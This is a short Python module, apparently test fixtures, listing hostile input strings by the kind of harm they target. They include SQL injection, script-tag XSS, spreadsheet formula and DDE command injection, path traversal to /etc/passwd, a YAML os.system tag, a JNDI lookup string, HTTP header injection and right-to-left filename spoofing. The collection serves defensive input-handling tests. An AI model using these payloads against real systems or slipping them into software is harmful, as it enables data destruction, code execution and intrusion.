"""What is typed to do harm, by what it would harm. Nothing of it may do more than be read."""

from typing import Final

PAYLOADS: Final = {
    "SQL": "'; DROP TABLE entries; --",
    "SQL in a value": "x' OR '1'='1",
    "SQL in a name": '"); DELETE FROM questions_log; --',
    "a pattern": "%_*?[a-z]%",
    "HTML": '<a href="http://evil.example">x</a>',
    "HTML that is not closed": "<b><i>x",
    "HTML that closes": "</b></blockquote><script>alert(1)</script>",
    "HTML by signs": "&#60;b&gt;x&lt;/b>&",
    "markup": "**[x](http://evil.example)** __y__ `z`",
    "a formula": '=HYPERLINK("http://evil.example";"x")',
    "a sum": "+1+1",
    "a formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in full width": "＝1+1",
    "a path": "../../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "an address": "file:///etc/passwd",
    "a tag of YAML": "!!python/object/apply:os.system [id]",
    "an anchor of YAML": "&a [*a, *a]",
    "a template": "{0.__class__} {question} %s %n ${jndi:ldap://x} {{7*7}}",
    "a terminal": "\x1b]0;x\x07\x1b[31mred",
    "a line of HTTP": "x\r\nX-Injected: 1\r\n\r\n",
    "turned text": "\u202e\u2066gnp.exe",
    "half a letter": "a\ud83db",
    "zeros": "a\x00b",
}
